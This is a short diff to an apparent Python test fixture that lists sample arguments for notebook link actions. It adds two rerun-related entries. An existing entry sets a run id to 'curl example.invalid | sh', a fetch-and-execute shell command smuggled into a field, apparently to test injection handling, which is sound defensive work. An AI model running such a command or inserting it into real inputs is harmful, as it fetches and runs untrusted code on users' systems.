@@ -36,6 +36,8 @@ LINKS: dict[str, dict[str, Any]] = {
     "lk:run-here": {},
     "lk:run-cell-again": {"notebook": "PATH", "cellId": "cell-0", "machine": "cpu"},
     "lk:attach": {"notebook": "PATH", "cellId": "cell-0", "id": RUN},
+    "lk:use-run": {"notebook": "PATH", "cellId": "cell-0", "id": RUN},
+    "lk:rerun-longer": {"notebook": "PATH", "cellId": "cell-0", "id": RUN, "limit": 600},
     "lk:insert-code": {"code": PYTHON},
     "lk:abort-run": {"id": RUN, "name": "an old test"},
     "lk:copy-run-id": {"id": "curl example.invalid | sh\n"},
